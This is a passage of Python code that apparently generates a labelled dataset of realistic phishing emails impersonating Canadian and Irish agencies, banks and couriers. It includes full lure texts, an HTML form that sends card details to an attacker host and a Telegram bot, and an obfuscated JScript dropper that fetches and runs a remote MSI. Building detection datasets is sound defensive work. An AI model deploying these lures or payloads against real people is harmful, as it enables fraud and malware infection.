             "Suite au traitement de votre déclaration de revenus 2024, Revenu Québec vous informe qu'un remboursement de <b>389,20 $</b> est en attente de dépôt.",
             "Afin de recevoir votre remboursement, vous devez confirmer vos renseignements bancaires dans Mon dossier pour les citoyens avant le 21 mars 2025. Passé ce délai, le montant sera reporté à l'année suivante.",
             ]
    footer = ["Revenu Québec — 3800, rue de Marly, Québec (Québec) G1X 4A5",
              "Ce message est envoyé automatiquement, veuillez ne pas y répondre."]
    html = card("Revenu Québec", "#095797", "Revenu Québec", paras, "Accéder à Mon dossier", url, footer, lang="fr")
    auth = Auth("pass", f"bounce@{dom}", "pass", dom, "rq1", "pass", dom, "NONE")
    top = delivery("mxs.bell.net", rcpt, f"smtp.{dom}", "94.131.111.27", when, auth, seed)
    hdrs = [dkim_sig(dom, "rq1", seed),
            f"From: {addr('Revenu Québec', 'avis@' + dom)}",
            f"To: {rcpt}",
            f"Subject: {enc('Avis de remboursement – Revenu Québec')}",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 20)}.{int(when.timestamp())}@{dom}>",
            "X-Mailer: Microsoft Outlook 16.0"]
    emit("revenuquebec-remboursement", "phish", "phishing",
         "French Revenu Québec refund notice from a newly registered look-alike domain with valid SPF/DKIM, asking the victim to 'confirm banking details' on the same domain.",
         top, hdrs, alt(plain(paras, "Accéder à Mon dossier", url, footer), html, bnd(seed)))


@msg
def ca_cra_myaccount_redirect():
    seed, when = "ca5", parse_date("2025-09-09 08:51:30 -0400")
    rcpt = "linda.macneil@shaw.ca"
    site = "maritimepetsupply.ca"  # compromised small-business mailbox on shared hosting
    target = "https://cra-myaccount-secure.firebaseapp.com/auth/"
    url = "https://www.google.com/url?q=" + target.replace(":", "%3A").replace("/", "%2F") + "&sa=D&sntz=1&usg=AOvVaw2" + h(seed, 24, ALNUM)
    paras = ["Your CRA My Account has been locked.",
             "We detected multiple unsuccessful sign-in attempts on your account. For your protection, access to My Account, including your benefit and credit payments, has been temporarily suspended.",
             f'To restore access, <a href="{url}">sign in and verify your identity</a>. If you do not verify within 24 hours, your direct deposit information will be removed.',
             "Canada Revenue Agency"]
    html = ('<html><body style="font-family:Arial;font-size:14px">\n'
            + "".join(f"<p>{p}</p>\n" for p in paras) + "</body></html>\n")
    auth = Auth("pass", f"info@{site}", "pass", site, "x", "pass", site, "NONE")
    top = delivery("mx1.shaw.ca", rcpt, "cp12.canspace.ca", "198.27.85.140", when, auth, seed)
    top += [sender_hop("[102.89.34.17]", "102.89.34.17", "cp12.canspace.ca", when - timedelta(seconds=1), h(seed + "e", 6, ALNUM) + "-00000B7-2E", "ESMTPSA", "(Exim 4.96.2) ")]
    hdrs = [dkim_sig(site, "x", seed),
            "MIME-Version: 1.0",
            f"Date: {rfc_date(when)}",
            f"From: {addr('CRA-ARC', 'info@' + site)}",
            f"To: {rcpt}",
            "Subject: My Account Suspended",
            f"Message-ID: <{h(seed, 32)}@{site}>",
            "X-Sender: info@" + site,
            "User-Agent: Roundcube Webmail/1.6.6"]
    emit("cra-myaccount-lock-redirect", "phish", "phishing",
         "CRA 'My Account locked' notice sent from a compromised small-business mailbox through Roundcube, linking via a Google open redirect to a firebaseapp.com credential page.",
         top, hdrs, alt(plain(paras), html, bnd(seed)))


@msg
def ca_canadapost_fee():
    seed, when = "ca6", parse_date("2024-11-27 15:33:09 -0500")
    rcpt = "tchen_88@rogers.com"
    dom = "cpc-redelivery.top"
    url = "https://canadapost-redeliver.vercel.app/track?pin=LM482917705CA"
    paras = ["<b>Your package could not be delivered</b>",
             "Tracking number: LM482917705CA",
             "We attempted to deliver your item on November 27, 2024 but the civic address was incomplete. Your parcel is being held at our depot.",
             "To schedule a new delivery, please confirm your address and pay the redelivery fee of <b>$1.99 CAD</b>.",
             ]
    footer = ["© Canada Post Corporation 2024", "Do not reply to this email. This mailbox is not monitored."]
    html = card("Canada Post", "#d52b1e", "Canada Post | Postes Canada", paras, "Schedule redelivery", url, footer)
    auth = Auth("pass", f"info@{dom}", "none", "", "", "none", dom, "NONE")
    top = delivery("yahoo", rcpt, f"vps{h(seed, 4, '0123456789')}.{dom}", "185.244.182.7", when, auth, seed)
    hdrs = [f"From: {addr('Canada Post', 'noreply@' + dom)}",
            f"To: {rcpt}",
            "Subject: Delivery attempt failed - action required [LM482917705CA]",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 16)}@{dom}>"]
    emit("canadapost-redelivery-fee", "phish", "phishing",
         "Canada Post missed-delivery lure from a throwaway .top domain (SPF only) asking for a $1.99 redelivery fee on a vercel.app card-harvesting page.",
         top, hdrs, alt(plain(paras, "Schedule redelivery", url, footer), html, bnd(seed)))

@msg
def ca_purolator_html_attachment():
    seed, when = "ca7", parse_date("2025-01-16 11:08:45 -0500")
    rcpt = "kevin.oduya@shaw.ca"
    dom = "purolator-customs-ca.com"
    post = "https://api.purolator-duties.shop/collect.php"
    page = ("<!DOCTYPE html>\n<html><head><meta charset=\"utf-8\"><title>Purolator - Duty &amp; Tax Payment</title>\n"
            "<style>body{font-family:Arial;background:#f4f4f4}.box{width:420px;margin:40px auto;background:#fff;padding:24px;border-top:6px solid #e31837}"
            "input{width:100%;padding:8px;margin:6px 0}button{background:#e31837;color:#fff;border:0;padding:10px 20px}</style></head>\n"
            "<body><div class=\"box\"><h2>Purolator</h2><p>Shipment 335901228847 - Duties owing: <b>$3.48 CAD</b></p>\n"
            f"<form method=\"POST\" action=\"{post}\">\n"
            "<input name=\"fullname\" placeholder=\"Full name\"><input name=\"address\" placeholder=\"Address\">\n"
            "<input name=\"cc\" placeholder=\"Card number\"><input name=\"exp\" placeholder=\"MM/YY\"><input name=\"cvv\" placeholder=\"CVV\">\n"
            "<button type=\"submit\">Pay now</button></form></div>\n"
            "<script>document.forms[0].onsubmit=function(){var d=new FormData(this);fetch('https://api.telegram.org/bot7714402215:AAH"
            + h(seed + "tg", 30, ALNUM) + "/sendMessage?chat_id=-100214477&text='+encodeURIComponent([...d.values()].join('|')));};</script>\n"
            "</body></html>\n")
    paras = ["Dear Customer,",
             "Your shipment <b>335901228847</b> from Shein Distribution is being held at the Purolator facility in Mississauga, ON pending payment of import duties and taxes ($3.48 CAD).",
             "Please open the attached payment form to release your shipment. Unpaid shipments are returned to sender after 5 business days.",
             "Purolator Customer Service"]
    html = card("Purolator", "#e31837", "Purolator", paras, footer=["Purolator Inc. 5995 Avebury Road, Mississauga ON L5R 3T8"])
    auth = Auth("pass", f"support@{dom}", "pass", dom, "default", "pass", dom, "NONE")
    top = delivery("mx1.shaw.ca", rcpt, f"mail.{dom}", "91.92.245.61", when, auth, seed)
    hdrs = [dkim_sig(dom, "default", seed),
            f"From: {addr('Purolator Inc.', 'support@' + dom)}",
            f"To: {rcpt}",
            "Subject: Purolator: Duties owing on shipment 335901228847",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 12)}${h(seed + 'b', 8)}@{dom}>"]
    body = Multi("mixed", bnd(seed + "m"), [alt(plain(paras), html, bnd(seed)),
                                            attachment("text/html", "Purolator_Payment_335901228847.html", page.encode())])
    emit("purolator-duty-htmlform", "phish", "phishing",
         "Purolator duties lure with an attached local HTML payment form that posts card details to an attacker host and a Telegram bot.",
         top, hdrs, body)


@msg
def ca_407etr_toll():
    seed, when = "ca8", parse_date("2025-07-22 09:14:02 -0400")
    rcpt = "priya.raman.on@gmail.com"
    dom = "407etr-billing.com"
    url = f"https://{dom}/pay/?inv=ETR-5583021&s=em"
    paras = ["Dear 407 ETR Customer,",
             "Our records show an unpaid toll balance of <b>$14.92</b> for trips on Highway 407 ETR. To avoid a late fee of $45.00 and a referral to the Ministry of Transportation for licence plate denial, please settle your balance by <b>July 24, 2025</b>.",
             "Invoice: ETR-5583021<br>Amount due: $14.92"]
    footer = ["407 ETR Concession Company Limited, 6300 Steeles Avenue West, Woodbridge, ON L4H 1J1"]
    html = card("407 ETR", "#004b87", "407 ETR", paras, "Pay Now", url, footer)
    auth = Auth("pass", f"billing@{dom}", "pass", dom, "k1", "pass", dom, "NONE")
    top = delivery("gmail", rcpt, f"mta1.{dom}", "45.155.250.118", when, auth, seed)
    hdrs = [dkim_sig(dom, "k1", seed, when=when),
            f"From: {addr('407 ETR', 'billing@' + dom)}",
            f"To: {rcpt}",
            "Subject: Final Notice: Unpaid 407 ETR toll balance",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 24)}@{dom}>"]
    emit("407etr-unpaid-toll", "phish", "phishing",
         "407 ETR unpaid-toll smishing-style email from a look-alike billing domain (passes SPF/DKIM) threatening plate denial and linking to a card-harvesting payment page.",
         top, hdrs, alt(plain(paras, "Pay Now", url, footer), html, bnd(seed)))


@msg
def ca_hydroquebec_remboursement():
    seed, when = "ca9", parse_date("2024-10-08 19:40:27 -0400")
    rcpt = "g.ouellet@videotron.ca"
    url = "https://t.co/" + h(seed, 10, ALNUM)
    paras = ["Cher(e) client(e),",
             "Après vérification de votre compte, nous avons constaté un paiement en double sur votre dernière facture. Vous avez droit à un remboursement de <b>137,42 $</b>.",
             "Pour recevoir ce montant, veuillez sélectionner votre institution financière et confirmer votre identité.",
             ]
    footer = ["Hydro-Québec — Service à la clientèle", "© Hydro-Québec, 2024. Tous droits réservés."]
    html = card("Hydro-Québec", "#1f3c88", "Hydro-Québec", paras, "Recevoir mon remboursement", url, footer, lang="fr")
    auth = Auth("softfail", "bounce-" + h(seed, 6) + "@mail.hydroquebec-clients.net", "none", "", "", "none",
                "hydroquebec-clients.net", "NONE")
    top = delivery("mx2.videotron.ca", rcpt, "static.93.121.201.195.clients.your-server.de", "195.201.121.93", when, auth, seed,
                   helo="mail.hydroquebec-clients.net")
    hdrs = [f"From: {addr('Hydro-Québec', 'service@hydroquebec-clients.net')}",
            f"To: {rcpt}",
            f"Subject: {enc('Remboursement de 137,42 $ en attente')}",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 10, '0123456789')}.{h(seed + 'x', 6, '0123456789')}@hydroquebec-clients.net>",
            "X-Priority: 1 (Highest)"]
    emit("hydroquebec-remboursement", "phish", "phishing",
         "French Hydro-Québec 'double payment refund' lure from an unsigned look-alike domain (SPF softfail) using a t.co shortened link to a bank-picker phishing kit.",
         top, hdrs, alt(plain(paras, "Recevoir mon remboursement", url, footer), html, bnd(seed)))


@msg
def ca_rbc_r2dev():
    seed, when = "ca10", parse_date("2025-11-04 06:22:19 -0500")
    rcpt = "mgrant1962@sympatico.ca"
    url = "https://pub-" + h(seed, 32) + ".r2.dev/rbc/signin.html#bWdyYW50MTk2MkBzeW1wYXRpY28uY2E="
    mailfrom_dom = "em4471.scorepromos.net"  # abused SendGrid subuser
    paras = ["Dear Client,",
             "We noticed an unusual sign-in attempt to RBC Online Banking from a new device (Windows 10, Toronto ON).",
             "As a precaution, we have placed a temporary hold on your accounts. Please verify your identity to remove the hold and continue using Online Banking.",
             ]
    footer = ["Royal Bank of Canada Website, &copy; 1995-2025", "RBC Royal Bank, 200 Bay Street, Toronto, Ontario, M5J 2J5"]
    html = card("RBC", "#005daa", "RBC Royal Bank", paras, "Verify Now", url, footer)
    auth = Auth("pass", f"bounces+{h(seed, 8, '0123456789')}-{h(seed + 'q', 4)}-{rcpt.replace('@', '=')}@{mailfrom_dom}", "pass", mailfrom_dom, "s1", "fail",
                "rbc.com", "REJECT", extra_dkim=[("pass", "sendgrid.net", "smtpapi")])
    auth.dmarc = "none"
    auth.from_domain = "rbcroyalbank-alerts.com"
    top = delivery("mxs.bell.net", rcpt, f"o{h(seed, 2, '0123456789')}.{mailfrom_dom}", "149.72.154.233", when, auth, seed,
                   helo="xvfrkscs.outbound-mail.sendgrid.net")
    hdrs = [dkim_sig(mailfrom_dom, "s1", seed, "from:mime-version:subject:content-type:to:cc:content-type:from:subject:to"),
            dkim_sig("sendgrid.net", "smtpapi", seed + "sg", "from:mime-version:subject:content-type:to:cc:content-type:from:subject:to"),
            f"Received: by filterdrecv-{h(seed, 10)}-{h(seed + 'f', 5, 'abcdefghijklmnopqrstuvwxyz0123456789')} with SMTP id filterdrecv-{h(seed, 10)}-1-{h(seed + 'c', 8, UPPERNUM)}-1\n"
            f"        {utc(when).strftime('%Y-%m-%d %H:%M:%S')}.{h(seed + 'ms', 9, '0123456789')} +0000 UTC m=+{h(seed + 'up', 7, '0123456789')}.{h(seed + 'up2', 9, '0123456789')}",
            f"Date: {rfc_utc(when)}",
            f"From: {addr('RBC Royal Bank', 'alerts@rbcroyalbank-alerts.com')}",
            f"Subject: Action required: temporary hold on your accounts",
            f"Message-ID: <{b64tok(seed, 22).replace('/', '_').replace('+', '-')}@geopod-ismtpd-{int(h(seed + 'g', 2, '0123456789'))}>",
            f"To: {rcpt}",
            f"X-SG-EID: {fold_b64(b64tok(seed + 'eid', 160), 70).replace(chr(9) + ' ', ' ')}",
            f"X-Entity-ID: u001.{b64tok(seed + 'ent', 22)}=="]
    emit("rbc-hold-r2dev", "phish", "phishing",
         "RBC account-hold lure sent through an abused SendGrid account with an unrelated look-alike From domain; the button points to a Cloudflare r2.dev bucket hosting an RBC sign-in clone with the victim's address in the fragment.",
         top, hdrs, alt(plain(paras, "Verify Now", url, footer), html, bnd(seed)))

@msg
def ca_desjardins_ipfs():
    seed, when = "ca11", parse_date("2025-05-14 21:05:33 -0400")
    rcpt = "lucie.beaudoin@videotron.ca"
    url = "https://ipfs.io/ipfs/bafybei" + h(seed, 50, "abcdefghijklmnopqrstuvwxyz234567") + "?filename=accesd-securite.html"
    paras = ["Bonjour,",
             "Pour votre sécurité, l'accès à AccèsD a été temporairement restreint suite à une tentative de connexion inhabituelle.",
             "Veuillez confirmer votre identité dans les 24 heures afin d'éviter la suspension de vos services en ligne et de vos cartes.",
             "Merci de votre collaboration,<br>Mouvement Desjardins"]
    html = card("Desjardins", "#00874e", "Desjardins", paras, "Confirmer mon identité", url,
                ["Desjardins, 100, rue des Commandeurs, Lévis (Québec) G6V 7N5"], lang="fr")
    sender = "lemieux.r@cgocable.ca"  # compromised Cogeco customer mailbox
    auth = Auth("pass", sender, "none", "", "", "none", "cgocable.ca", "NONE")
    top = delivery("mx2.videotron.ca", rcpt, "smtp.cogeco.ca", "24.226.0.35", when, auth, seed)
    top += [sender_hop(f"[41.216.{int(h(seed,2,'0123456789'))}.{int(h(seed+'i',2,'0123456789'))}]", f"41.216.{int(h(seed,2,'0123456789'))}.{int(h(seed+'i',2,'0123456789'))}",
                       "smtp.cogeco.ca", when - timedelta(seconds=2), h(seed + "id", 12, UPPERNUM), "ESMTPA", "(Postfix) ")]
    hdrs = [f"From: {addr('Desjardins AccesD', sender)}",
            "To: undisclosed-recipients:;",
            f"Subject: {enc('Accès restreint – Vérification requise')}",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 8, '0123456789')}.{h(seed + 'a', 20, UPPERNUM)}@cgocable.ca>",
            "X-Mailer: Microsoft Outlook Express 6.00.2900.5512"]
    emit("desjardins-accesd-ipfs", "phish", "phishing",
         "French Desjardins AccèsD lockout lure sent in bulk (undisclosed recipients) from a hijacked Cogeco customer mailbox, linking to an ipfs.io gateway page imitating the AccèsD login.",
         top, hdrs, alt(plain(paras, "Confirmer mon identité", url), html, bnd(seed)))


@msg
def ca_td_visa_callback():
    seed, when = "ca12", parse_date("2024-08-19 12:47:55 -0400")
    rcpt = "wendy.kowalski@gmail.com"
    sender = "tdcardservices.alerts0417@gmail.com"
    body_txt = ("Dear Customer,\n\n"
                "A purchase of $1,149.99 CAD was made with your TD Cash Back Visa Infinite* Card\n"
                "ending in 4417 at BEST BUY #963 MONTREAL QC on Aug 19, 2024.\n\n"
                "If you did not authorize this transaction, please call our Fraud Prevention\n"
                "department immediately at 1-888-416-7723 (available 24/7) to cancel the charge\n"
                "and receive a full refund.\n\n"
                "If you made this purchase, no further action is required.\n\n"
                "TD Fraud Prevention\nThe Toronto-Dominion Bank\n")
    html = gmail_html([line for line in body_txt.replace("\n\n", "\n\u0000").split("\n")]).replace("\u0000", "")
    auth = Auth("pass", sender, "pass", "gmail.com", "20230601", "pass", "gmail.com", "NONE")
    top = delivery("gmail", rcpt, "mail-sor-f41.google.com", "209.85.220.41", when, auth, seed)
    hdrs = [dkim_sig("gmail.com", "20230601", seed, "to:subject:message-id:date:from:mime-version:from:to:cc:subject:date:message-id:reply-to", when=when),
            *gmail_sent(seed, when),
            "MIME-Version: 1.0",
            f"From: {addr('TD Fraud Prevention', sender)}",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <CA+{b64tok(seed, 40).replace('/', 'x')}@mail.gmail.com>",
            "Subject: Transaction Alert - TD Visa ending 4417",
            f"To: {rcpt}"]
    emit("td-visa-callback", "phish", "phishing",
         "Callback scam: plain Gmail message posing as TD fraud prevention about a $1,149.99 purchase, with no link, only a phone number to call for a 'refund'.",
         top, hdrs, alt(body_txt, html, bnd(seed, "gmail")))


@msg
def ca_kijiji_buyer():
    seed, when = "ca13", parse_date("2025-04-26 16:31:08 -0600")
    rcpt = "adam.fortier@shaw.ca"
    sender = "brianmcdowell.1958@gmail.com"
    url = "https://kijiji-safe-payment.com/order/77451920/receive?lang=en"
    lines = ["Hello Adam,",
             "",
             "Thanks for getting back to me about the Traeger smoker. I'm working offshore so I can't view it in person, but I'm happy with the pictures and I'll pay your full asking price of $650 plus the pickup fee for my mover.",
             "",
             f'I\'ve already sent the payment through Kijiji secure payment. You just need to confirm your details to receive the money here: <a href="{url}">{url}</a>',
             "",
             "Once you receive it my mover will come pick it up on Monday. Please take the ad down.",
             "",
             "Thanks,",
             "Brian"]
    html = gmail_html(lines)
    body_txt = "\n".join(strip_tags(l) for l in lines) + "\n"
    auth = Auth("pass", sender, "pass", "gmail.com", "20230601", "pass", "gmail.com", "NONE")
    top = delivery("mx1.shaw.ca", rcpt, "mail-yw1-f173.google.com", "209.85.128.173", when, auth, seed)
    hdrs = [dkim_sig("gmail.com", "20230601", seed, "to:subject:message-id:date:from:in-reply-to:references:mime-version:from:to:cc:subject:date:message-id:reply-to", when=when),
            *gmail_sent(seed, when),
            "MIME-Version: 1.0",
            f"References: <{h(seed + 'r', 20)}@shaw.ca>",
            f"In-Reply-To: <{h(seed + 'r', 20)}@shaw.ca>",
            f"From: {addr('Brian McDowell', sender)}",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <CAJ{b64tok(seed, 44).replace('/', 'y').replace('+', 'Z')}@mail.gmail.com>",
            "Subject: Re: Traeger Pro 575 - Kijiji",
            f"To: Adam Fortier <{rcpt}>"]
    emit("kijiji-buyer-fake-payment", "phish", "phishing",
         "Kijiji marketplace buyer scam from a Gmail account: 'offshore' buyer claims to have paid through Kijiji secure payment and sends a fake payment-confirmation site to steal the seller's card/bank details.",
         top, hdrs, alt(body_txt, html, bnd(seed, "gmail")))


@msg
def ca_supplier_bank_change():
    seed, when = "ca14", parse_date("2025-10-15 14:12:36 -0400")
    rcpt = "comptabilite@plomberiegirard.ca"
    sdom = "distributionsmartel.ca"  # real supplier, mailbox taken over
    sender = f"c.roy@{sdom}"
    letter = files.pdf(["DISTRIBUTIONS MARTEL INC.", "1250, boul. Industriel, Terrebonne (Quebec) J6Y 1X2", "",
                        "Objet : Changement de coordonnees bancaires", "",
                        "Veuillez noter qu'a compter du 15 octobre 2025, tous les paiements doivent etre",
                        "effectues au compte suivant :", "",
                        "Institution : 004 (Banque TD)  Transit : 31582  Compte : 5219947",
                        "Beneficiaire : Distributions Martel Inc.", "",
                        "Nos anciennes coordonnees (Desjardins) ne sont plus valides en raison d'une verification.",
                        "", "Claudine Roy, Comptes recevables"], title="Changement bancaire")
    paras = ["Bonjour,",
             "Suite à une vérification de notre institution financière, nos coordonnées bancaires ont changé. Vous trouverez ci-joint la lettre officielle.",
             "Pourriez-vous mettre à jour votre fichier fournisseur et effectuer le paiement des factures 88120 et 88147 (total 14 388,52 $) au nouveau compte cette semaine? Merci de confirmer par courriel seulement, nos lignes téléphoniques sont en maintenance.",
             "Merci beaucoup,"]
    sig = ["Claudine Roy", "Comptes recevables | Distributions Martel inc.", "450 471-2280 poste 214"]
    html = outlook_html(paras, sig)
    body_txt = "\n\n".join(strip_tags(p) for p in paras) + "\n\n" + "\n".join(sig) + "\n"
    auth = Auth("pass", sender, "pass", sdom, "selector1", "pass", sdom, "QUARANTINE")
    RCPT_REGION[sdom] = "YT"
    top = delivery("m365", rcpt, f"YT6PR01CU002.outbound.protection.outlook.com", "40.107.192.98", when, auth, seed,
                   helo="YT6PR01CU002.outbound.protection.outlook.com")
    top += m365_org_headers(seed, when, scl=1, rcpt=rcpt)
    top += [f"Received: from YQBPR0101MB{h(seed + 's', 4, '0123456789')}.CANPRD01.PROD.OUTLOOK.COM\n ([fe80::{h(seed + 'a', 4)}:{h(seed + 'b', 4)}:{h(seed + 'c', 4)}:{h(seed + 'd', 4)}]) by YQBPR0101MB{h(seed + 's', 4, '0123456789')}.CANPRD01.PROD.OUTLOOK.COM\n ([fe80::{h(seed + 'a', 4)}:{h(seed + 'b', 4)}:{h(seed + 'c', 4)}:{h(seed + 'd', 4)}%6]) with mapi id 15.20.9228.012; {rfc_utc(when)}"]
    hdrs = [dkim_sig(sdom, "selector1", seed, "From:Date:Subject:Message-ID:Content-Type:MIME-Version:X-MS-Exchange-SenderADCheck"),
            f"From: {addr('Claudine Roy', sender)}",
            f"To: {addr('Comptabilité Plomberie Girard', rcpt)}",
            f"Subject: {enc('Changement de coordonnées bancaires – Distributions Martel')}",
            f"Thread-Topic: {enc('Changement de coordonnées bancaires – Distributions Martel')}",
            f"Thread-Index: {b64tok(seed + 'ti', 30)}==",
            f"Date: {rfc_utc(when)}",
            f"Message-ID:\n <YQBPR0101MB{h(seed + 's', 4, '0123456789')}{h(seed + 'm', 16, UPPERNUM)}@YQBPR0101MB{h(seed + 's', 4, '0123456789')}.CANPRD01.PROD.OUTLOOK.COM>",
            "Accept-Language: fr-CA, en-US",
            "Content-Language: fr-CA",
            "X-MS-Has-Attach: yes",
            "X-MS-TNEF-Correlator:",
            "x-ms-exchange-senderadcheck: 1"]
    body = Multi("mixed", bnd(seed + "mx", "outlook"), [alt(body_txt, html, bnd(seed, "outlook")),
                                                          attachment("application/pdf", "Lettre_changement_bancaire.pdf", letter)])
    emit("supplier-bank-change-fr", "phish", "phishing",
         "Vendor email compromise: a real supplier's Microsoft 365 mailbox (full SPF/DKIM/DMARC pass) sends a French bank-details-change letter asking to redirect $14k of invoice payments to a new TD account.",
         top, hdrs, body)


@msg
def ca_service_canada_callback():
    seed, when = "ca15", parse_date("2025-01-29 10:20:41 -0500")
    rcpt = "r.jamieson@icloud.com"
    dom = "servicecanada-notice.org"
    paras = ["<b>NOTICE OF SUSPENSION — SOCIAL INSURANCE NUMBER</b>",
             "File: SC-ON-20250129-7714",
             "Your Social Insurance Number (SIN) has been flagged in connection with suspicious activity in the Province of Ontario and will be suspended within 24 hours.",
             "To avoid suspension and legal proceedings, you must contact a Service Canada officer at <b>1-877-305-9281</b> before 5:00 PM EST today and quote your file number.",
             "Service Canada<br>Employment and Social Development Canada"]
    html = card("Service Canada", "#26374a", "Government of Canada | Service Canada", paras)
    auth = Auth("pass", f"no-reply@{dom}", "pass", dom, "default", "pass", dom, "NONE")
    top = delivery("icloud", rcpt, f"mail.{dom}", "103.136.43.19", when, auth, seed)
    hdrs = [dkim_sig(dom, "default", seed),
            f"From: {addr('Service Canada', 'no-reply@' + dom)}",
            f"To: {rcpt}",
            "Subject: URGENT: Your SIN will be suspended",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 18)}@{dom}>"]
    emit("service-canada-sin-callback", "phish", "phishing",
         "Service Canada SIN-suspension callback scam from a look-alike .org domain: no link, pressure and a phone number leading to an impersonation/gift-card scam.",
         top, hdrs, alt(plain(paras), html, bnd(seed)))


@msg
def ca_facture_zip_js():
    seed, when = "ca16", parse_date("2024-09-10 09:02:17 -0400")
    rcpt = "admin@plomberiegirard.ca"
    sdom = "groupe-lacroix-toitures.com"
    js = ("var _0x5a1=['\\x57\\x53\\x63\\x72\\x69\\x70\\x74\\x2e\\x53\\x68\\x65\\x6c\\x6c','\\x52\\x75\\x6e'];\n"
          "var sh=new ActiveXObject(_0x5a1[0]);\n"
          "var u='ht'+'tps://cdn-doc'+'s-sync.com/f/'+'inv88.msi';\n"
          "sh[_0x5a1[1]]('msiexec /q /i '+u,0,false);\n"
          "// Facture 2024-0912 - " + h(seed, 64, ALNUM) + "\n")
    archive = files.zip_archive([("Facture_2024-0912.js", js.encode())])
    paras = ["Bonjour,", "Voici la facture pour les travaux de septembre. Merci de confirmer la réception.", "Cordialement,", "Martin Lacroix"]
    body_txt = "\n\n".join(paras) + "\n"
    auth = Auth("fail", f"martin@{sdom}", "none", "", "", "fail", sdom, "NONE")
    top = delivery("m365", rcpt, "host-185-234-216-88.ip-net.eu", "185.234.216.88", when, auth, seed, helo="WIN-K7Q2M3RT1PL")
    top += m365_org_headers(seed, when, scl=5, rcpt=rcpt)
    hdrs = [f"From: {addr('Martin Lacroix', 'martin@' + sdom)}",
            f"To: {rcpt}",
            "Subject: Facture 2024-0912",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 14, UPPERNUM)}${h(seed + 'b', 8, UPPERNUM)}@WIN-K7Q2M3RT1PL>",
            "X-Mailer: Microsoft Outlook 16.0"]
    body = Multi("mixed", bnd(seed), [text(body_txt),
                                      attachment("application/zip", "Facture_2024-0912.zip", archive)])
    emit("facture-zip-js-dropper", "phish", "malware",
         "French invoice lure with a zip holding an obfuscated JScript that runs msiexec to fetch an MSI payload; the From domain is spoofed (SPF and DMARC fail, p=none).",
         top, hdrs, body)

# --------------------------------------------------------------------------- Ireland: attacks

RCPT_REGION.update({"murphyjoinery.ie": "DB", "corribveterinary.ie": "DB", "harbourviewbnb.ie": "DB"})


@msg
def ie_revenue_refund():
    seed, when = "ie1", parse_date("2025-03-05 08:47:13 +0000")
    rcpt = "maire.oconnell@eircom.net"
    url = "https://revenue-ie-myaccount.web.app/refund/claim?ref=IE2025R41250"
    dom = "revenue-taxrefund.ie.cz"
    paras = ["Dear Taxpayer,",
             "Following the review of your PAYE Statement of Liability for 2024, Revenue has determined that you are entitled to a tax refund of <b>&euro;412.50</b>.",
             "To receive the refund directly to your bank account, please complete the electronic refund form through myAccount. Please allow 3-5 working days for the funds to be processed.",
             "Yours faithfully,<br>Office of the Revenue Commissioners"]
    html = card("Revenue", "#005b5b", "Revenue - Irish Tax and Customs", paras, "Claim Refund", url,
                ["Office of the Revenue Commissioners, Dublin Castle, Dublin 2, D02 F342"])
    auth = Auth("pass", f"mail@{dom}", "none", "", "", "none", dom, "NONE")
    top = delivery("mail-in.eircom.net", rcpt, f"mail.{dom}", "77.93.198.212", when, auth, seed)
    hdrs = [f"From: {addr('Revenue.ie', 'noreply@' + dom)}",
            f"To: {rcpt}",
            "Subject: Revenue: Tax refund notification (Ref IE2025R41250)",
            f"Date: {rfc_date(when)}",
            f"Message-ID: <{h(seed, 16)}@{dom}>",
            "X-Mailer: Microsoft Office Outlook 12.0"]
    emit("revenue-ie-refund", "phish", "phishing",
         "Irish Revenue refund lure from a foreign throwaway domain, with the claim button on a Firebase web.app page that collects PPSN, card and bank details.",
         top, hdrs, alt(plain(paras, "Claim Refund", url), html, bnd(seed)))


@msg
def ie_mygovid_deactivation():
    seed, when = "ie2", parse_date("2025-08-12 12:33:58 +0100")
    rcpt = "declan.walsh.galway@gmail.com"
    url = "https://storage.googleapis.com/mgid-verify-" + h(seed, 6) + "/index.html?u=ZGVjbGFuLndhbHNoLmdhbHdheUBnbWFpbC5jb20"
    sdom = "em.kerrycraftbrewing.ie"  # Mailchimp account of a small firm, hijacked
    paras = ["Dear MyGovID user,",
             "As part of the update to MyGovID verified accounts, all users must re-confirm their identity before <b>15 August 2025</b>. Accounts that are not re-verified will be deactivated and you will lose access to Revenue myAccount, MyWelfare and other public services.",
             "It only takes 2 minutes."]
    html = card("MyGovID", "#004d44", "MyGovID", paras, "Verify my account", url, ["gov.ie &middot; MyGovID is provided by the Department of Social Protection"])
    mf = f"bounce-mc.us21_{h(seed, 8, '0123456789')}.{h(seed + 'b', 7, '0123456789')}-{rcpt.replace('@', '=')}@mail{h(seed + 'mm', 2, '0123456789')}.sea91.mcsv.net"
    auth = Auth("pass", mf, "pass", "sea91.mcsv.net", "k2", "none", "kerrycraftbrewing.ie", "NONE",
                extra_dkim=[("pass", "mailchimpapp.net", "k3")])
    top = delivery("gmail", rcpt, f"mail{h(seed + 'mm', 2, '0123456789')}.sea91.mcsv.net", "205.201.130.22", when, auth, seed)
    hdrs = [dkim_sig("sea91.mcsv.net", "k2", seed),
            dkim_sig("mailchimpapp.net", "k3", seed + "2"),
            f"Received: from localhost (localhost [127.0.0.1])\n\tby mail{h(seed + 'mm', 2, '0123456789')}.sea91.mcsv.net (Postfix) with ESMTP id 4Z{h(seed + 'pf', 10, ALNUM)}\n\tfor <{rcpt}>; {rfc_utc(when)}",
            "Subject: Action required: MyGovID account verification",
            f"From: {addr('MyGovID', 'info@kerrycraftbrewing.ie')}",
            f"Reply-To: {addr('MyGovID', 'info@kerrycraftbrewing.ie')}",
            f"To: <{rcpt}>",
            f"Date: {rfc_utc(when)}",
            f"Message-ID: <{h(seed, 20)}.{h(seed + 'x', 16)}@mail{h(seed + 'mm', 2, '0123456789')}.sea91.mcsv.net>",
            f"X-Mailer: Mailchimp Mailer - **CID{h(seed + 'cid', 20)}**",
            f"X-Campaign: mailchimp{h(seed + 'mc', 18)}.{h(seed + 'cp', 10)}",
            f"X-campaignid: mailchimp{h(seed + 'mc', 18)}.{h(seed + 'cp', 10)}",
